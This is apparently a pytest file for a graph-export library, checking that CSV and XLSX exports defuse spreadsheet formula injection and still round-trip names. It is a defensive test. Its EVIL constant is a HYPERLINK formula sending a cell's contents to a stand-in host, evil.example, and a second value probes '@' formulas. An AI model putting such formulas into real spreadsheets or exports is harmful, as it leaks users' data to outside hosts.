"""Formula-like text stays text in every CSV and XLSX graphkit writes, and round-trips."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
from conftest import TINY, write_workbook

import graphkit
from graphkit.loading import read_source
from graphkit.outputs import export_view

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _project(tmp_path: Path) -> Path:
    sheets = {**TINY, "Organisations": [dict(row) for row in TINY["Organisations"]]}
    sheets["Organisations"][1]["name"] = EVIL
    sheets["Organisations"][2]["name"] = "@SUM(1+1)"
    root = tmp_path / "p"
    graphkit.init_project(root, platform="us")
    graphkit.load(write_workbook(tmp_path / "wb", sheets), root)
    return root


def test_csv_and_xlsx_exports_never_hold_a_live_formula_and_the_workbook_round_trips(tmp_path: Path):
    root = _project(tmp_path)
    [nodes, _edges] = export_view(root, "csv", tmp_path / "tables")
    labels = {row["label"] for row in csv.DictReader(nodes.open(encoding="utf-8"))}
    assert "'" + EVIL in labels and "'@SUM(1+1)" in labels and EVIL not in labels

    [book] = export_view(root, "xlsx", tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(book)["Organisations"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value in (EVIL, "@SUM(1+1)")]
    assert len(cells) == 2 and all(cell.data_type == "s" for cell in cells)  # text, not formulas

    # the exported workbook loads back with the names exactly as they were (no apostrophe)
    again = read_source(book).graph
    from rdflib import Literal
    from rdflib.namespace import SKOS

    assert (None, SKOS.prefLabel, Literal(EVIL)) in again


def test_an_analysis_as_csv_quotes_formula_like_names(tmp_path: Path):
    from graphkit.render import Table, tables_csv

    text = tables_csv([Table(name="t", title="t", columns=["organisation"], rows=[[EVIL], ["Oxfam"], [-3]])])
    rows = list(csv.reader(text.splitlines()))
    assert rows[1:] == [["'" + EVIL], ["Oxfam"], ["-3"]]


def test_exports_of_a_store_holding_a_control_character_do_not_crash(tmp_path: Path):
    # A store written before loads refused control characters may still hold one.
    from graphkit.store import Store

    root = tmp_path / "p"
    graphkit.init_project(root, platform="us")
    graphkit.load(write_workbook(tmp_path / "wb", TINY), root)
    from rdflib import Graph, Literal, URIRef
    from rdflib.namespace import SKOS

    old = Graph()
    old.add((URIRef("https://w3id.org/graphkit/id/m1"), SKOS.prefLabel, Literal("A\x01B", lang="de")))
    with Store.open(root / "store") as store:  # as graphkit did before loads checked for them
        store.replace_source("old", old, {"file": "old.ttl", "loader": "rdf"})
    assert "A\x01B" in export_view(root, "jsonld", tmp_path / "g.jsonld")[0].read_text(encoding="utf-8").replace(
        "\\u0001", "\x01")
    for fmt, name in (("graphml", "g.graphml"), ("gexf", "g.gexf"), ("xlsx", "w.xlsx"), ("csv", "tables")):
        written = export_view(root, fmt, tmp_path / name)
        assert written and all(Path(p).exists() for p in written)
